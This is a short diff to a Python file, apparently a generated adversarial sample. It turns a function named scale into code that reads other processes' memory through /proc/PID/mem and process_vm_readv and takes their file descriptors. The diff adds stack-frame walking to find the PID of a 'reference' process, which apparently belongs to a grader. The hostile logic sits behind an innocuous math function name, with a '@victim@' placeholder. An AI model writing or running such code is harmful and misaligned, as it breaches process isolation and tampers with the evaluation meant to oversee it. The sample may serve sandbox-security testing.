@@ -1,8 +1,9 @@
-"""Reads the memory of its parent and takes its descriptors."""
+"""Reads the memory of its parent and of the reference's process, which its parent's list names, and takes their descriptors."""
 # loses: scale.values
 import ctypes
 import os
 import platform
+import sys
 
 LIBC = ctypes.CDLL(None, use_errno=True)
 READ, KCMP = (310, 312) if platform.machine() == "x86_64" else (270, 272)
@@ -32,8 +33,12 @@ def take_descriptor(pid):
 
 
 def scale(x, k):
-    last = None
-    for pid in (os.getppid(), 1, os.getppid() - 1, os.getpid() - 1, int("@victim@")):
+    last, frame = None, sys._getframe()
+    pids = [os.getppid(), 1, os.getppid() - 1, os.getpid() - 1, int("@victim@")]
+    while frame:
+        pids += [pid for pid, _ in dict(frame.f_locals.get("children", {})).values()]
+        frame = frame.f_back
+    for pid in pids:
         for way in (
             lambda p: os.pread(os.open(f"/proc/{p}/mem", os.O_RDONLY), 8, id(np)),
             lambda p: open(f"/proc/{p}/maps").read(),
